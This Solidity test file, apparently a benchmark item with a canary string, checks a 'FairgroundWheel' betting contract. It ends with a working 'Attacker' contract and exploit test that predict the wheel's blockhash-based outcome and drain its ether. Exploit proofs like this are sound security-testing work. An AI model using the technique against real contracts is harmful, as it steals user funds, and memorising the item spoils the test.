// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;
pragma abicoder v2;

import "./FairgroundWheel.sol";

// assay-canary-e9026f14-ca9e-43f0-aaad-66a44d04958c

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function roll(uint256 number) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

// A player whose account takes no ether.
contract Mute {
    address private host = msg.sender;

    function bet(FairgroundWheel wheel, uint256 field, uint256 stake) external {
        require(msg.sender == host, "host");
        wheel.bet{value: stake}(field);
    }

    function spin(FairgroundWheel wheel) external {
        require(msg.sender == host, "host");
        wheel.spin();
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    FairgroundWheel private wheel;
    Attacker private mallory;

    function setUp() public {
        vm.roll(1000);
        wheel = new FairgroundWheel(0.1 ether, 1 ether);
        vm.deal(address(wheel), 500 ether);
        vm.deal(ANA, 10 ether);
        vm.deal(BEN, 10 ether);
        vm.deal(address(this), 1 ether);
        mallory = new Attacker(wheel);
        vm.deal(address(mallory), 1 ether);
    }

    receive() external payable {}

    function test_Regular() public {
        vm.prank(ANA);
        wheel.bet{value: 1 ether}(7);
        require(wheel.promised() == 80 ether, "promised");
        vm.prank(BEN);
        wheel.bet{value: 0.5 ether}(99);
        vm.roll(1004);
        vm.prank(ANA);
        wheel.spin();
        (uint256 stake, , ) = wheel.bets(ANA);
        require(stake == 0 && wheel.promised() == 40 ether, "spun");
        vm.roll(1254);
        wheel.expire(BEN);
        require(wheel.promised() == 0, "expired");
        wheel.set_limits(0.2 ether, 2 ether);
        (bool given, ) = address(wheel).call{value: 1 ether}("");
        require(given, "given");
        uint256 before = address(this).balance;
        wheel.collect(address(this), 100 ether);
        require(address(this).balance == before + 100 ether, "collected");
        wheel.transferOwnership(ANA);
        vm.prank(ANA);
        wheel.renounceOwnership();
    }

    function test_RefusesBets() public {
        vm.startPrank(ANA);
        vm.expectRevert("!field");
        wheel.bet{value: 1 ether}(100);
        vm.expectRevert("!stake");
        wheel.bet{value: 0.1 ether - 1}(1);
        vm.expectRevert("!stake");
        wheel.bet{value: 1 ether + 1}(1);
        wheel.bet{value: 0.1 ether}(1);
        vm.expectRevert("!one bet");
        wheel.bet{value: 0.1 ether}(2);
        vm.stopPrank();
        vm.deal(address(wheel), 50 ether);
        vm.prank(BEN);
        vm.expectRevert("!funds");
        wheel.bet{value: 1 ether}(1);
    }

    function test_RefusesSpins() public {
        vm.startPrank(ANA);
        vm.expectRevert(bytes("!bet"));
        wheel.spin();
        vm.expectRevert(bytes("!bet"));
        wheel.expire(ANA);
        wheel.bet{value: 0.1 ether}(1);
        vm.roll(1003);
        vm.expectRevert("!wait");
        wheel.spin();
        vm.roll(1253);
        vm.expectRevert("!early");
        wheel.expire(ANA);
        vm.roll(1254);
        vm.expectRevert("!late");
        wheel.spin();
        vm.stopPrank();
    }

    function test_RefusesOwners() public {
        vm.expectRevert(bytes("!min"));
        new FairgroundWheel(0, 1);
        vm.expectRevert(bytes("!max"));
        new FairgroundWheel(2, 1);
        vm.expectRevert(bytes("!to"));
        wheel.collect(address(0), 1);
        vm.prank(ANA);
        wheel.bet{value: 1 ether}(1);
        vm.expectRevert("!promised");
        wheel.collect(address(this), 421 ether + 1);
        wheel.collect(address(this), 421 ether);
        Mute mute = new Mute();
        vm.expectRevert("!paid");
        wheel.collect(payable(address(mute)), 0);
        vm.startPrank(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        wheel.collect(address(0xBE9), 1);
        vm.expectRevert("Ownable: caller is not the owner");
        wheel.set_limits(1, 2);
        vm.stopPrank();
    }

    // Some field is the one that the wheel stops at. Its account does not take the prize.
    function test_RefusesMutes() public {
        Mute mute = new Mute();
        vm.deal(address(mute), 100 ether);
        bool paid = true;
        while (paid) {
            mute.bet(wheel, 50, 0.1 ether);
            vm.roll(block.number + 4);
            try mute.spin(wheel) {} catch {
                paid = false;
            }
        }
        (uint256 stake, , ) = wheel.bets(address(mute));
        require(stake > 0, "the bet stays");
    }

    function exploit() public {
        for (uint256 n = 0; n < 3; n++) {
            mallory.start();
            vm.roll(block.number + 4);
            while (!mallory.ready()) {
                vm.roll(block.number + 1);
            }
            mallory.finish();
        }
    }

    function test_Exploit() public {
        exploit();
        require(address(mallory).balance >= 221 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(wheel);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    FairgroundWheel private wheel;

    constructor(FairgroundWheel w) {
        wheel = w;
    }

    receive() external payable {}

    function start() external {
        wheel.bet{value: 1 ether}(42);
    }

    function ready() public view returns (bool) {
        return uint256(keccak256(abi.encodePacked(blockhash(block.number - 1), address(this)))) % 100 == 42;
    }

    function finish() external {
        if (ready()) wheel.spin();
    }
}
